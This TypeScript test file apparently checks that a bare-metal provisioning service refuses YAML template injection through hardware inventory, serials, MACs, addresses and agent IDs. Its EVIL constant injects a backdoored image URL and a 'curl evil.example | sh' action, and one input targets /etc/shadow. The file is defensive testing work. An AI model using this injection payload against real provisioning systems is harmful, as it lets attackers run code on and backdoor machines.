import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { storedDefinitions } from '../orchestrator-stub/seal/test-seal.ts';
import { AttackedSite, ghost, type Machine } from './attacked-site.ts';

/** Tinkerbell's way of writing templates: values without quotes. */
const TEMPLATE = `version: "0.1"
name: tink
global_timeout: 600
tasks:
  - name: work
    worker: {{ .device_1 }}
    actions:
      - name: stream
        image: example.org/a/image2disk:1
        timeout: 60
        environment:
          DEST_DISK: {{ index .Hardware.Disks 0 }}
          IFACE: {{ (index .Hardware.Interfaces 0).DHCP.IfaceName }}
          SERIAL: {{ .DeviceInfoHwSerialID }}
          ADDRESS: {{ .DeviceInfoHwIP }}
`;
const EVIL = `/dev/sda
          IMG_URL: http://evil.example/backdoored.raw.gz
      - name: "pwn"
        image: example.org/a/cexec:1
        environment:
          CMD_LINE: "curl evil.example | sh"`;
const HARDWARE = { disks: [{ kind: 'disk', path: '/dev/sda' }], nics: [{ name: 'eth0', mac: '' }] };
let site: AttackedSite;
let count = 0;
/** Every test has a machine of its own. */
let machine: Machine;

beforeAll(async () => {
  site = await AttackedSite.start();
  await site.running.api('PUT', '/api/v1/templates/tink', { json: { text: TEMPLATE } });
  await site.profile({ template: 'tink' });
});
beforeEach(() => {
  count += 1;
  machine = ghost(count);
});
afterAll(() => site[Symbol.asyncDispose]());

const told = async () => (await site.workflowOf(machine)).actions.map(({ name }: { name: string }) => name);
const environment = () => {
  const all = storedDefinitions(site.running.folder);
  return all.find(({ id }) => id === `workflow-${machine.uuid}-g1`)?.actions[0]?.environment;
};

it.each([
  ['a disk', { disks: [{ kind: 'disk', path: EVIL }] }],
  ['a disk’s kind', { disks: [{ kind: 'disk'.padEnd(1000, 'x'), path: '/dev/sda' }] }],
  ['a path with a link out of /dev', { disks: [{ kind: 'disk', path: '/etc/shadow' }] }],
  ['a network card', { nics: [{ name: `eth0\n${EVIL}`, mac: '' }] }],
  ['a MAC', { nics: [{ name: 'eth0', mac: '52:54:00:12:34:56\n  x: y' }] }],
])('the review’s attack through %s: refused, and nothing of it is kept', async (_what, hardware) => {
  await site.register({ serial: machine.serialnum, autoOnboard: true, profile: 'edge' });
  expect(await site.discover({ serial: machine.serialnum }, hardware)).toMatchObject({ status: 400 });
  expect((await site.node(machine.serialnum)).inventory).toBeUndefined();
});

it('what anybody says of a registered node is a claim: its record, its disks and its workflow stay', async () => {
  await site.register({ uuid: machine.uuid, serial: machine.serialnum, autoOnboard: true, profile: 'edge' });
  await site.discover({ uuid: machine.uuid, serial: machine.serialnum, macs: [machine.macId] }, HARDWARE);
  await site.running.knock(machine);
  expect(await told()).toEqual(['stream']);
  const before = await site.node(machine.uuid);
  const other = { ...HARDWARE, disks: [{ kind: 'disk', path: '/dev/sdz' }] };
  for (const identity of [{ uuid: machine.uuid }, { serial: machine.serialnum }, { macs: [machine.macId] }]) {
    expect((await site.discover(identity, other)).status).toBe(200);
  }
  expect(await site.node(machine.uuid), 'not even when it was seen last').toEqual(before);
  await site.running.api('POST', `/api/v1/nodes/${machine.uuid}/reprovision`, { json: {} });
  expect((await site.node(machine.uuid)).inventory).toMatchObject({ disks: [{ path: '/dev/sda' }] });
});

it.each([
  ['serial', { serialnum: `x"\n${EVIL}` }, 0],
  ['MAC', { macId: `52:54:00:12:34:56\n${EVIL}` }, 3],
  ['MAC behind a serial that hides it', { serialnum: 'Default string', macId: `x\n${EVIL}` }, 3],
  ['address', { serialnum: 'Default string', hostIp: `10.0.0.1\n${EVIL}` }, 3],
])('the %s of a knock is no YAML either', async (_what, knock, code) => {
  await site.register({ uuid: machine.uuid, autoOnboard: true, profile: 'edge' });
  await site.discover({ uuid: machine.uuid }, HARDWARE);
  expect((await site.running.knock({ ...machine, ...knock })).status?.code).toBe(code);
  await site.running.knock(machine);
  expect(await told()).toEqual(['stream']);
  expect(environment()).toEqual([
    'ADDRESS=10.0.2.15',
    'DEST_DISK=/dev/sda',
    'IFACE=eth0',
    expect.stringMatching(/^SERIAL=(GHOST[0-9a-f]{4})?$/),
  ]);
});

it('an agent’s name becomes no part of a workflow by rule (autoEnrollment)', async () => {
  await site.running.api('PATCH', '/api/v1/site', {
    json: {
      autoEnrollment: true,
      enrollmentRules: [{ name: 'all', template: 'tink', rules: ['{"memory":{"x":[{"exists":false}]}}'] }],
    },
  });
  await site.register({ uuid: machine.uuid, autoOnboard: true });
  const token = await site.running.accessToken(await site.running.knock(machine));
  for (const agentId of [`a"\n${EVIL}`, 'a: b', '{{ .x }}', '- a', 'x'.repeat(1_000_000)]) {
    await expect(site.getAction(token, agentId)).rejects.toThrow();
  }
  const { workflows } = (await site.running.api('GET', '/api/v1/workflows')).body;
  expect(workflows.filter(({ id }: { id: string }) => id.startsWith('enrollment-'))).toEqual([]);
});
